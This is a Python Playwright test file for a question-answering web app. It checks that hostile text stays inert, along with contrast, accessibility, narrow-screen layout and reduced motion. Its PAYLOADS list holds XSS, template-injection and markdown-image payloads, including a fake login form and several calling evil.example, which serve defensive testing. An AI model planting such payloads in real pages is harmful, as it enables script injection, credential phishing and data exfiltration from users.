"""What hostile words cannot do on the page, what everybody can read on it, and how it looks where it is narrow."""

import importlib.util
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ViewportSize, expect

from index.types import Article
from tests.ui.browsing import EXAMPLE, NEEDS_A_BROWSER, Reader, Served, fake
from tests.ui.fakes import FakeAnswerer, article
from tests.ui.hostile import HOSTILE, shown

pytestmark = NEEDS_A_BROWSER

PAYLOADS = (
    *HOSTILE,
    "<script>window.pwned=1</script><img src=x onerror=window.pwned=1><svg onload=window.pwned=1>",
    "${window.pwned=1} `+(window.pwned=1)+` \\x24{window.pwned=1} \\u003cimg src=x onerror=window.pwned=1\\u003e",
    "{{constructor.constructor('window.pwned=1')()}} {{{value}}} {{#with this}}{{/with}}",
    "![leak](https://evil.example/a.png) ![leak](/gradio_api/file=http://evil.example/a.png)",
    "[x]: https://evil.example/b.png\n![x] ![x][]",
    "<video poster=https://evil.example/c src=https://evil.example/d><table background=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/f><meta http-equiv=refresh content='0;https://evil.example'>",
    "<iframe src=https://evil.example/g></iframe><object data=https://evil.example/h></object>",
    "<form action=https://evil.example/i><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/j)'>Session expired</div>",
    "[click](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>click</a> [1](#cite-1-1)",
    "<style>body{display:none;background:url(https://evil.example/k)}</style>",
    "$$\\includegraphics{https://evil.example/l}$$ $\\href{javascript:window.pwned=1}{x}$",
    "\" autofocus onfocus=window.pwned=1 x=\" ' onmouseover='window.pwned=1",
)
_FOREIGN = "img, video, audio, iframe, object, embed, link, meta, form, script, style, code, svg, [onerror], [onload]"
_REGIONS = "#earlier, #current, #sources, #library, #filters, #composer, #carrier"


def hostile(payload: str) -> Article:
    """An article that holds the payload wherever words can stand."""
    text = f"The harbour bridge: {payload} and more. {payload} The harbour bridge again {payload}"
    return article("hostile", text, title=payload, publisher=payload, original_publisher=payload, authors=payload)


def wrongs(reader: Reader) -> list[str]:
    """What words have brought about that words cannot."""
    links = reader.page.eval_on_selector_all(
        "#asking a, #sources a, #library a", "all => all.map(a => a.getAttribute('href'))"
    )
    regions = ", ".join(f"{region} :is({_FOREIGN})" for region in _REGIONS.split(", "))
    return [
        *(["foreign elements"] if reader.page.locator(regions).count() else []),
        *(["forms"] if reader.page.locator("form").count() else []),
        *(["script ran"] if reader.page.evaluate("window.pwned") is not None else []),
        *[f"link {link}" for link in links],
        *[f"complaint {complaint}" for complaint in reader.complaints],
        *[f"request {url}" for url in reader.requests if re.search("file=|proxy=", url)],
        *[f"request {url}" for url in reader.abroad()],
    ]


@pytest.mark.parametrize("with_policy", [True, False], ids=["policy", "no-policy"])
def test_hostile_words_stay_words_in_every_place(browser: Browser, *, with_policy: bool) -> None:
    found: dict[str, list[str]] = {}
    with Served(FakeAnswerer([])) as served, browser.new_context(bypass_csp=not with_policy, locale="en-US") as context:
        reader = Reader(context, served.address)
        for turn, payload in enumerate((words.replace("\ud800", "") for words in PAYLOADS), 1):
            served.answerer.articles, served.answerer.url = [hostile(payload)], payload
            reader.ask(f"harbour bridge {payload}".replace("\n", " "))
            said = reader.answered(turn)
            expect(reader.panel.locator("li h3").first).to_be_visible()
            lost = [] if shown(payload) in shown(said.inner_text()) else ["lost words in the answer"]
            reader.marker(turn, 1).click()
            expect(reader.panel.locator("mark.main")).to_be_visible()
            lost += [] if shown(payload) in shown(reader.panel.inner_text()) else ["lost words in the article"]
            if seen := wrongs(reader) + lost:
                found[payload] = seen
        served.answerer.articles = [
            article(f"hostile {number}", payload, title=payload, publisher=payload)
            for number, payload in enumerate(words for words in PAYLOADS if words.isprintable())
        ]
        reader.page.evaluate("location.hash = '#library'")
        expect(reader.page.locator("#library tbody tr")).to_have_count(len(served.answerer.articles))
        reader.page.evaluate("location.hash = '#ask'")
        reader.ask("nothing of the kind")
        expect(reader.panel.locator("h2")).to_have_text("Nearest passages")
        if seen := wrongs(reader):
            found["library and nearest passages"] = seen
    assert found == {}


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_text_is_too_pale_to_read(browser: Browser, served: Served, theme: str) -> None:
    with browser.new_context(locale="en-US") as context:
        reader = Reader(context, f"{served.address}/?__theme={theme}")
        reader.ask(EXAMPLE)
        reader.answered(1)
        pale = reader.page.evaluate(_CONTRAST)
        reader.marker(1, 1).click()
        expect(reader.panel.locator("mark.main")).to_be_visible()
        pale += reader.page.evaluate(_CONTRAST)
        reader.page.get_by_role("link", name="Library").click()
        expect(reader.page.locator("#library tbody tr")).to_have_count(2)
        pale += reader.page.evaluate(_CONTRAST)
    assert {words: ratio for words, ratio in pale if ratio < 4.5} == {}
    assert len(pale) > 40


# The contrast of every piece of text with the nearest ground behind it, by the formula of WCAG 2.
_CONTRAST = """() => {
  const light = (c) => {
    const [r, g, b] = c.map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const parts = (c) => c.match(/[0-9.]+/g).map(Number);
  const found = [];
  const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    const words = walker.currentNode.textContent.trim();
    if (!words || !element.checkVisibility() || element.closest('svg, style, script, #carrier')) continue;
    let ground = element;
    while (ground && (parts(getComputedStyle(ground).backgroundColor)[3] ?? 1) === 0) ground = ground.parentElement;
    const back = ground ? parts(getComputedStyle(ground).backgroundColor) : [255, 255, 255];
    const [a, b] = [light(parts(getComputedStyle(element).color).slice(0, 3)), light(back.slice(0, 3))];
    found.push([words.slice(0, 40), (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]);
  }
  return found;
}"""

# The package carries axe-core, which is under MPL-2.0; only its script is used, and nothing of it is kept here.
_CARRIER = importlib.util.find_spec("axe_playwright_python")
AXE = Path(_CARRIER.origin if _CARRIER and _CARRIER.origin else "missing").with_name("axe.min.js")


@pytest.mark.skipif(not AXE.exists(), reason="no axe-core: pip install axe-playwright-python")
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_of_our_making(browser: Browser, served: Served, theme: str) -> None:
    with browser.new_context(locale="en-US", bypass_csp=True) as context:
        reader = Reader(context, f"{served.address}/?__theme={theme}")
        found = _axe(reader)
        reader.ask(EXAMPLE)
        reader.answered(1)
        found |= _axe(reader)
        reader.marker(1, 1).click()
        expect(reader.panel.locator("mark.main")).to_be_visible()
        reader.page.locator("#filter-box summary").click()
        found |= _axe(reader)
        reader.page.evaluate("location.hash = '#library'")
        expect(reader.page.locator("#library tbody tr")).to_have_count(2)
        found |= _axe(reader)
    assert found == set()


def _axe(reader: Reader) -> set[str]:
    reader.page.add_script_tag(path=AXE)
    ran = reader.page.evaluate("axe.run('main')")
    return {f"{wrong['id']}: {node['html'][:120]}" for wrong in ran["violations"] for node in wrong["nodes"]}


@pytest.mark.parametrize(("width", "height"), [(360, 700), (640, 400)], ids=["phone", "twice as large"])
def test_a_narrow_page_shows_everything_without_scrolling_sideways(
    browser: Browser, served: Served, width: int, height: int
) -> None:
    with browser.new_context(locale="en-US", viewport=ViewportSize(width=width, height=height)) as context:
        reader = Reader(context, served.address)
        reader.ask(f"{EXAMPLE} {'x' * 300}")
        reader.answered(1)
        assert reader.page.evaluate("document.documentElement.scrollWidth") == width
        reader.marker(1, 1).click()
        expect(reader.panel.locator("mark.main")).to_be_in_viewport()
        reader.panel.get_by_role("button", name="Back to the statement", exact=True).click()
        expect(reader.marker(1, 1)).to_be_in_viewport()
        reader.page.evaluate("location.hash = '#library'")
        expect(reader.page.locator("#library tbody tr")).to_have_count(2)
        assert reader.page.evaluate("document.documentElement.scrollWidth") == width


def test_whoever_wants_no_motion_gets_none(browser: Browser) -> None:
    with Served(fake()) as served, browser.new_context(locale="en-US", reduced_motion="reduce") as context:
        reader = Reader(context, served.address)
        moving = reader.page.evaluate(
            "() => [...document.querySelectorAll('main *')].filter((e) => {"
            " const s = getComputedStyle(e); return s.animationName !== 'none' || parseFloat(s.transitionDuration) > 0;"
            "}).length"
        )
    assert moving == 0
